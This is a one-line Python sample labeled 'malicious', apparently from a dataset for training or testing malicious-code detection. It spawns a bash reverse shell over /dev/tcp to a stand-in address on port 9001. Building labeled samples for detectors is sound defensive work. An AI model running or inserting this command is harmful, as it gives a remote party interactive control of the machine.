# label: malicious
import subprocess
subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/9001 0>&1"])
